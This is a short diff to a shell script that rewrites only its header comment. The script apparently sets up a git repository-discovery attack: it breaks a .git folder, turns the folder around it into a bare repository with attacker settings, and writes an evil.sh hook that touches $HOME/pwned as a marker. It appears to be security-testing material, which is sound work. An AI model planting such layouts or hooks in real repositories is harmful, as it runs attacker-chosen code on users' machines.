@@ -1,5 +1,5 @@
-# Makes .git something that git does not take for a repository, in the way that $1 says, and the
-# folder around it one: git then looks there, and finds settings of ours. $2 is that folder.
+# Changes .git so that git does not recognise it as a repository. Then makes the folder around it,
+# $2, a bare repository with settings of the attacker. $1 names the change.
 cd "${2:-.}" || exit 1
 printf '#!/bin/sh\ntouch "$HOME/pwned"\n' >evil.sh && chmod 755 evil.sh
 mkdir -p objects refs/heads
